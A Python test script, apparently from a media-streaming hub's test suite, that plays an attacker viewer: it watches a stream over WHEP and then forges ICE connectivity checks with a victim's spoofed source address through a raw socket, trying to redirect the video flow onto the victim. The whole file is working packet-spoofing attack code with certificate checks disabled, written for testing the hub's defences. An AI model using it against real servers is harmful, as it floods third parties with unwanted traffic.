"""A viewer with a right to watch who tries to have the video sent to somebody else.

`mallory.py URL BEARER VICTIM PORT SECONDS` inside a namespace, as root: watches by WHEP, then sends
the hub connectivity checks of its own session, authentic in all, with the victim's source address,
and stops speaking from its own. Prints what it received before, and how many checks it forged.
"""

import asyncio
import ipaddress
import json
import socket
import ssl
import struct
import sys
from pathlib import Path

from aiohttp import ClientSession

EVERY = 0.05  # seconds between forged checks


def datagram(source: tuple[str, int], target: tuple[str, int], data: bytes) -> bytes:
    """An IPv4 packet; checksum 0 of UDP means none, the kernel fills in IP's."""
    length = 8 + len(data)
    addresses = ipaddress.IPv4Address(source[0]).packed + ipaddress.IPv4Address(target[0]).packed
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, socket.IPPROTO_UDP, 0)
    return header + addresses + struct.pack("!HHHH", source[1], target[1], length, 0) + data


async def main(url: str, bearer: str, victim: str, port: str, seconds: str) -> None:
    from tests.support.peers import Pull
    from village_core.jobs import Supervisor

    supervisor = Supervisor()
    context = ssl._create_unverified_context()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    async with ClientSession() as plain, asyncio.timeout(60):
        plain.connector._ssl = context  # type: ignore[union-attr]
        pull = await Pull.start(
            url, bearer, http=plain, supervisor=supervisor, host="0.0.0.0", deaf=True
        )
        peer = pull.peer
        while peer.packets < 300:  # noqa: ASYNC110 - the peer counts, and tells nobody
            await asyncio.sleep(0.05)
        watched = peer.packets
        server = (str(peer.server[0]), int(peer.server[1]))
        forged = int(float(seconds) / EVERY)
        for _ in range(forged):
            raw.sendto(datagram((victim, int(port)), server, peer.check()), server)
            await asyncio.sleep(EVERY)
        print(json.dumps({"watched": watched, "after": peer.packets - watched, "forged": forged}))
        peer.vanish()
    raw.close()
    await supervisor.stop()


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    asyncio.run(main(*sys.argv[1:]))
